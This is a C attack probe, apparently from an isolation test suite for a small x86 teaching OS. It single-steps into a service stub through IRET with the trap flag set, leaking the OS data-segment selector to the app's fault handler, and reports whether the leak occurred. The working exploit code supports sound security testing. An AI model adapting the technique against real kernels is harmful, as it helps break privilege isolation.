/* a_trapflag: single-step into a service stub to catch the DSOS selector in
 * a register.  Every stub begins "mov ax, DSOS; mov ds, ax".  An app may set
 * EFLAGS.TF (POPF/IRET at CPL 3 can); entering the stub with an IRET that
 * sets TF makes the CPU raise #DB after the stub's first instruction
 * (SDM vol. 3, 17.3.1.4): EAX then holds DSOS while DS, ES, SS are still
 * DSAPP.  The OS decides "the fault is the OS's" by looking for DSOS in the
 * segment registers only (os/proc/excpt.c holds_dsos), so it delivers this
 * #DB -- EAX included -- to the app's handler.  The handler resumes the stub
 * (TF cleared), which completes the service normally.
 *
 * Tries Design B (getpid), hardened Design B (getpid) and Design A.
 * Prints ATTACK name=trapflag ... result=contained | FOUND. */
#include "../a_common/attack.h"

static volatile uint32_t db_n, db_eax, db_eip;

static int on_db(struct klos_fault *f)
{
    if (f->vec != 1)
        return 0;
    if (!db_n++) {
        db_eax = f->ctx.eax;
        db_eip = f->ctx.eip;
    }
    f->ctx.eflags &= ~0x100u;
    return 1;
}

/* Enter the stub at `target` through IRET with TF set; the stub's RET comes
 * back to 1:.  EAX starts as 0, so a selector in it can only be the stub's. */
uint32_t step_target, step_arg0;
void step_into(uint32_t unused);
asm(".text\n"
    ".globl step_into\n"
    "step_into:\n"
    "  pushl %ebp\n"
    "  movl %esp, %ebp\n"
    "  pushl step_arg0\n"                   /* Design A: the service number */
    "  pushl $1f\n"                         /* the stub's return address */
    "  pushfl\n"
    "  orl $0x100, (%esp)\n"                /* TF */
    "  pushl %cs\n"
    "  pushl step_target\n"
    "  xorl %eax, %eax\n"
    "  iret\n"
    "1:\n"
    "  movl %ebp, %esp\n"
    "  popl %ebp\n"
    "  ret\n");

static const char *try_one(const char *what, uint32_t target, uint32_t arg0, char *out, int cap,
                           int *found)
{
    db_n = db_eax = db_eip = 0;
    step_target = target;
    step_arg0 = arg0;
    int r = probe_call(step_into, 0);
    uint32_t sel = db_eax & 0xFFFF;
    int os = db_n && sel_is_os(sel, 0);
    *found |= os;
    snprintf(out, cap, " %s:db=%u,eip=%x,ax=0x%x,svc_ret=%d,%s", what, db_n, db_eip, sel,
             r ? -1 : (int)probe_out.eax, os ? "DSOS" : "no");
    return out;
}

int main(void)
{
    probe_init();
    klos_on_fault(on_db);
    char b[3][96];
    int found = 0;
    try_one("B", SVC_B_ADDR(SVC_getpid), 0, b[0], sizeof b[0], &found);
    try_one("H", SVC_H_ADDR(SVC_getpid), 0, b[1], sizeof b[1], &found);
    try_one("A", SVC_A_BASE, SVC_getpid, b[2], sizeof b[2], &found);
    printf("ATTACK name=trapflag pid=%d%s%s%s result=%s\n", getpid(), b[0], b[1], b[2],
           found ? "FOUND" : "contained");
    return 0;
}
